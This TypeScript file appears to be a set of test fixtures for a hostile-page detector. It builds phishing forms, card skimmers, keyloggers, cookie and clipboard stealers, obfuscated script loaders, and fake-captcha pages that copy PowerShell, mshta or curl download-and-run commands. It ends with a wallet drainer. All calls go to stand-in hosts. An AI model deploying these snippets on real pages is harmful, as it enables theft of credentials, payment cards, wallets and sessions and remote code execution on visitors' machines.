/** Short hostile scripts and forms. The hosts are made up, and nothing arrives anywhere. */

import { prose } from './filler.ts';
import { hostile, type PageFixture } from './fixture.ts';
import { percentEscapes, reversed, shifted } from './obfuscation.ts';

const SEED = 'seed phrase phishing';
const LOGIN = 'credential phishing';
const SKIMMER = 'card skimmer';
const LOADER = 'obfuscated loader';
const SPY = 'keylogger';
const LURE = 'fake captcha';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const codes = (text: string) => [...text].map((letter) => letter.charCodeAt(0)).join(',');
const page = (title: string, body: string) =>
  `<!doctype html><html><head><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`;
const phrase =
  '<form id="f"><textarea id="phrase" name="phrase" placeholder="Enter your 12-word recovery phrase"></textarea><button>Import</button></form>';
const login =
  '<form id="login"><input type="email" id="user" name="email"><input type="password" id="pw" name="password"><button>Sign in</button></form>';
const card =
  '<form id="pay" action="/pay" method="post"><input name="cardnumber" id="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvc" id="cvc" autocomplete="cc-csc"><button>Pay</button></form>';
const script = (code: string) => `<script>${code}</script>`;
const garden = (name: string, body: string) => page('Birch garden', `${prose(name, 'news', 2)}${body}`);
const SHOP = 'https://www.birch-garden.example/checkout';
const BLOG = 'https://www.birch-garden.example/blog/roses';

export const hostileSnippets: PageFixture[] = [
  hostile(
    'phrase by fetch',
    SEED,
    'https://wallet-sync.example/import',
    page(
      'Import wallet',
      phrase +
        script(
          `document.getElementById('f').addEventListener('submit',async e=>{e.preventDefault();const words=document.getElementById('phrase').value.trim();await fetch('https://node-relay.example/v',{method:'POST',body:JSON.stringify({w:words})})})`,
        ),
    ),
  ),
  hostile(
    'phrase by XMLHttpRequest',
    SEED,
    'https://dapp-fix.example/',
    page(
      'Validate wallet',
      phrase +
        script(
          `var box=document.querySelector('#phrase');f.onsubmit=function(){var x=new XMLHttpRequest();x.open('POST','https://keeper.example/a.php',true);x.send('d='+encodeURIComponent(box.value));return false}`,
        ),
    ),
  ),
  hostile(
    'phrase by beacon',
    SEED,
    'https://restore-vault.example/',
    page(
      'Restore',
      phrase +
        script(
          `function grab(el){return {v:el.value,t:Date.now()}}document.querySelector('textarea').onblur=function(){navigator.sendBeacon('https://inbox-log.example/b',JSON.stringify(grab(this)))}`,
        ),
    ),
  ),
  hostile(
    'phrase by a form to another site',
    SEED,
    'https://ledger-check.example/',
    page(
      'Check your device',
      `<form action="https://form-sink.example/s" method="post"><textarea name="seed_phrase" placeholder="24 words"></textarea><button>Check</button></form>`,
    ),
  ),
  hostile(
    'phrase in the address of a picture',
    SEED,
    'https://coin-bridge.example/',
    page(
      'Bridge',
      phrase +
        script(
          `document.forms[0].onsubmit=function(){new Image().src='https://px-count.example/p.gif?k='+btoa(phrase.value);return false}`,
        ),
    ),
  ),
  hostile(
    'twelve boxes joined for a socket',
    SEED,
    'https://token-migrate.example/',
    page(
      'Migrate tokens',
      `<p>Enter your 12 words</p><form id=g>${'<input class="w" name="word">'.repeat(12)}<button>Go</button></form>` +
        script(
          `const ws=new WebSocket('wss://sock-hub.example/live');g.onsubmit=()=>{const all=[...document.querySelectorAll('.w')].map(i=>i.value).join(' ');ws.send(all);return false}`,
        ),
    ),
  ),
  hostile(
    'log-in reported to a bot',
    LOGIN,
    'https://docs-share.example/view',
    page(
      'Shared document',
      login +
        script(
          `const t='111:NOT-A-TOKEN';login.addEventListener('submit',e=>{e.preventDefault();fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text='+encodeURIComponent(user.value+':'+pw.value))})`,
        ),
    ),
  ),
  hostile(
    'bot with its address in base64',
    LOGIN,
    'https://mail-quota.example/',
    page(
      'Mail quota',
      login +
        script(
          `var u=atob('${base64('https://api.telegram.org/bot000:NOT-A-TOKEN/sendMessage')}');document.getElementById('login').onsubmit=function(e){e.preventDefault();var d=new FormData(this);fetch(u,{method:'POST',body:d})}`,
        ),
    ),
  ),
  hostile(
    'log-in to another site by fetch',
    LOGIN,
    'https://webmail-portal.example/',
    page(
      'Webmail',
      login +
        script(
          `document.getElementById('login').addEventListener('submit',function(e){e.preventDefault();var data={u:document.getElementById('user').value,p:document.getElementById('pw').value};fetch('https://collect-auth.example/x',{method:'POST',mode:'no-cors',body:JSON.stringify(data)}).then(()=>location='https://example.com/')})`,
        ),
    ),
  ),
  hostile(
    'log-in with its action set by a script',
    LOGIN,
    'https://parcel-desk.example/',
    page(
      'Parcel desk',
      login +
        script(
          `var h=['https:/','/drop-box-one','.example/','in.php'].join('');document.getElementById('login').action=h;document.getElementById('login').method='post'`,
        ),
    ),
  ),
  hostile(
    'action in base64',
    LOGIN,
    'https://hr-payslip.example/',
    page(
      'Payslip',
      login +
        script(
          `document.forms[0].setAttribute('action',atob('${base64('https://gather-point.example/in.php')}'))`,
        ),
    ),
  ),
  hostile(
    'log-in in a frame that a script writes',
    LOGIN,
    'https://meeting-join.example/',
    page(
      'Join',
      `<div id="r"></div>` +
        script(
          `document.getElementById('r').innerHTML=atob('${base64('<form action="https://meet-auth.example/p.php" method="post"><input name="email"><input type="password" name="password"><button>Join</button></form>')}')`,
        ),
    ),
  ),
  hostile(
    'whole log-in written with unescape',
    LOGIN,
    'https://invoice-open.example/',
    page(
      'Invoice',
      script(
        `document.write(unescape('${percentEscapes('<form action="https://open-inv.example/post.php" method="post">Your mailbox password <input type="password" name="pass"><button>Open</button></form>')}'))`,
      ),
    ),
  ),
  hostile(
    'password by jQuery',
    LOGIN,
    'https://fax-arrived.example/',
    page(
      'Fax',
      login +
        script(
          `$('#login').on('submit',function(e){e.preventDefault();$.post('https://fax-sink.example/next',$(this).serialize(),function(){location.href='https://example.com'})})`,
        ),
    ),
  ),
  hostile(
    'password through functions and names',
    LOGIN,
    'https://bank-notice.example/',
    page(
      'Notice',
      login +
        script(
          `const cfg={base:'https://notice-log.example',path:'/k'};function pack(a,b){return {a,b}}function ship(body){return fetch(cfg.base+cfg.path,{method:'POST',body:JSON.stringify(body)})}login.onsubmit=e=>{e.preventDefault();const {value:secret}=document.querySelector('input[type=password]');ship(pack(document.querySelector('[name=email]').value,secret))}`,
        ),
    ),
  ),
  hostile(
    'log-in through a hidden frame',
    LOGIN,
    'https://cloud-files.example/',
    page(
      'Files',
      `<iframe name="q" style="display:none"></iframe>` +
        login +
        script(`login.target='q';login.method='POST';login.action='https://quiet-frame.example/save';`),
    ),
  ),
  hostile(
    'paste a command to prove to be human',
    LURE,
    'https://human-check.example/',
    page(
      'Verify you are human',
      `<p>Press Win + R, then Ctrl + V, and Enter.</p><button id=b>I am not a robot</button>` +
        script(
          `b.onclick=()=>navigator.clipboard.writeText('powershell -w hidden -c "iwr https://cmd-host.example/a | iex"')`,
        ),
    ),
  ),
  hostile(
    'command in base64 for the clipboard',
    LURE,
    'https://player-fix.example/',
    page(
      'Verification steps',
      `<p>Press Windows key + R, press CTRL+V, press Enter.</p><button onclick="go()">Fix</button>` +
        script(
          `function go(){var t=document.createElement('textarea');t.value=atob('${base64('mshta https://fix-it.example/v.hta # reCAPTCHA ID 4411')}');document.body.append(t);t.select();document.execCommand('copy')}`,
        ),
    ),
  ),
  hostile(
    'command from codes for the clipboard',
    LURE,
    'https://doc-viewer.example/',
    page(
      'Checking your browser',
      `<p>To continue: Win+R, Ctrl+V, Enter</p><button id=z>Continue</button>` +
        script(
          `z.onclick=function(){navigator.clipboard.writeText(String.fromCharCode(${codes('cmd /c curl https://codes.example/r.bat -o %TEMP%\\r.bat && %TEMP%\\r.bat')}))}`,
        ),
    ),
  ),
  hostile(
    'allow notifications to go on',
    LURE,
    'https://click-allow.example/',
    page(
      'Are you a human?',
      `<p>Click Allow to confirm that you are not a robot</p>` +
        script(
          `Notification.requestPermission().then(p=>{if(p==='granted')location.href='https://next-push.example/go';else location.reload()})`,
        ),
    ),
  ),
  hostile(
    'unescape that loads from an odd host',
    LOADER,
    BLOG,
    garden(
      'unescape odd',
      script(`document.write(unescape('%3Cscript src="http://185.220.10.9/js/s.js"%3E%3C/script%3E'))`),
    ),
  ),
  hostile(
    'unescape that hides every letter',
    LOADER,
    BLOG,
    garden(
      'unescape letters',
      script(
        `document.write(unescape('${percentEscapes('<script src="https://cdn-stat.top/j.js"></script>')}'))`,
      ),
    ),
  ),
  hostile(
    'eval of base64 that loads more',
    LOADER,
    BLOG,
    garden(
      'eval atob',
      script(
        `eval(atob('${base64("var s=document.createElement('script');s.src='https://load-more.top/a.js';document.head.appendChild(s)")}'))`,
      ),
    ),
  ),
  hostile(
    'character codes that load more',
    LOADER,
    BLOG,
    garden(
      'codes',
      script(
        `eval(String.fromCharCode(${codes("document.write('<script src=//code-host.icu/x.js></scr'+'ipt>')")}))`,
      ),
    ),
  ),
  hostile(
    'address put together from codes',
    LOADER,
    BLOG,
    garden(
      'address codes',
      script(
        `var s=document.createElement('script');s.src=String.fromCharCode(${codes('https://assembled.click/l.js')});document.getElementsByTagName('head')[0].appendChild(s)`,
      ),
    ),
  ),
  hostile(
    'address written backwards',
    LOADER,
    BLOG,
    garden(
      'backwards',
      script(
        `(function(){var s=document.createElement('script');s.src='${reversed('https://mirror-load.top/i.js')}'.split('').reverse().join('');document.head.append(s)})()`,
      ),
    ),
  ),
  hostile(
    'script under a running key',
    LOADER,
    BLOG,
    garden(
      'running key',
      script(
        shifted(
          "var s=document.createElement('script');s.src='https://keyed-load.buzz/k.js';document.head.appendChild(s)",
          61,
        ),
      ),
    ),
  ),
  hostile(
    'array of strings in disorder',
    LOADER,
    BLOG,
    garden(
      'array',
      script(
        `var _0x1a2b=['src','//strings.monster/a.js','createElement','script','head','appendChild'];(function(_0xa,_0xb){var _0xc=document[_0x1a2b[2]](_0x1a2b[3]);_0xc[_0x1a2b[0]]='https:'+_0x1a2b[1];document[_0x1a2b[4]][_0x1a2b[5]](_0xc)})()`,
      ),
    ),
  ),
  hostile(
    'unreadable code that is decoded and run',
    LOADER,
    BLOG,
    garden(
      'cipher',
      script(
        `var k='${base64(Array.from({ length: 900 }, (_, i) => String.fromCharCode((i * 7919 + ((i * i) % 251)) % 256)).join(''))}';var r='';for(var i=0,b=atob(k);i<b.length;i++){r+=String.fromCharCode(b.charCodeAt(i)^((window.name.length*31+i*i)&255))}new Function(r)()`,
      ),
    ),
  ),
  hostile(
    'code from another site run as it comes',
    LOADER,
    BLOG,
    garden('fetched', script(`fetch('https://orders.sbs/c').then(r=>r.text()).then(t=>eval(t))`)),
  ),
  hostile(
    'skimmer on a checkout',
    SKIMMER,
    SHOP,
    page(
      'Checkout',
      card +
        script(
          `document.getElementById('pay').addEventListener('submit',function(){var o={};this.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});navigator.sendBeacon('https://jq-stats.example/c',JSON.stringify(o))})`,
        ),
    ),
  ),
  hostile(
    'skimmer with a picture',
    SKIMMER,
    SHOP,
    page(
      'Checkout',
      card +
        script(
          `setInterval(function(){var n=document.getElementById('cc').value,c=document.querySelector('[name=cvc]').value;if(n.length>14){var i=new Image();i.src='https://font-metrics.example/f.gif?d='+btoa(n+'|'+c)}},900)`,
        ),
    ),
  ),
  hostile(
    'skimmer with its host in pieces',
    SKIMMER,
    SHOP,
    page(
      'Checkout',
      card +
        script(
          `var p=['aHR0cHM6Ly90YWct','bWV0cmljcy5leGFtcGxlL2M='];document.querySelector('#pay').onchange=function(e){var d=new FormData(document.querySelector('#pay'));fetch(atob(p.join('')),{method:'POST',body:new URLSearchParams(d)})}`,
        ),
    ),
  ),
  hostile(
    'skimmer that keeps what it takes',
    SKIMMER,
    SHOP,
    page(
      'Checkout',
      card +
        script(
          `document.querySelectorAll('input').forEach(i=>i.addEventListener('change',()=>{const s=JSON.parse(localStorage.getItem('_t')||'{}');s[i.name]=i.value;localStorage.setItem('_t',JSON.stringify(s))}));addEventListener('beforeunload',()=>navigator.sendBeacon('https://tag-assets.example/s',localStorage.getItem('_t')))`,
        ),
    ),
  ),
  hostile(
    'keys to a picture',
    SPY,
    BLOG,
    garden(
      'keys',
      script(
        `var q='';document.onkeypress=function(e){q+=e.key;if(q.length>20){new Image().src='https://ad-keys.example/k?d='+encodeURIComponent(q);q=''}}`,
      ),
    ),
  ),
  hostile(
    'keys to a socket',
    SPY,
    BLOG,
    garden(
      'keys socket',
      script(
        `const w=new WebSocket('wss://keys-live.example');addEventListener('keydown',({key})=>w.send(key))`,
      ),
    ),
  ),
  hostile(
    'clipboard read and sent',
    SPY,
    BLOG,
    garden(
      'clipboard',
      script(
        `document.addEventListener('click',async()=>{const t=await navigator.clipboard.readText();fetch('https://paste-log.example/p',{method:'POST',body:t})})`,
      ),
    ),
  ),
  hostile(
    'session taken',
    SPY,
    BLOG,
    garden(
      'cookie',
      script(
        `new Image().src='https://jar-shelf.example/c?'+document.cookie;fetch('https://jar-shelf.example/l',{method:'POST',body:JSON.stringify(localStorage)})`,
      ),
    ),
  ),
  hostile(
    'document in the address of a frame',
    LOGIN,
    'https://secure-reader.example/',
    page(
      'Reader',
      `<iframe style="position:fixed;inset:0;width:100%;height:100%" src="data:text/html;base64,${base64('<form action="https://reader-auth.example/p" method=post>Password<input type=password name=pass><button>Read</button></form>')}"></iframe>`,
    ),
  ),
  hostile(
    'wallet emptied',
    'wallet drainer',
    'https://mint-pass.example/',
    page(
      'Claim your free NFT',
      `<button id=c>Connect wallet</button>` +
        script(
          `c.onclick=async()=>{const[a]=await ethereum.request({method:'eth_requestAccounts'});const v=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x000000000000000000000000000000000000dEaD',value:v}]})}`,
        ),
    ),
  ),
];
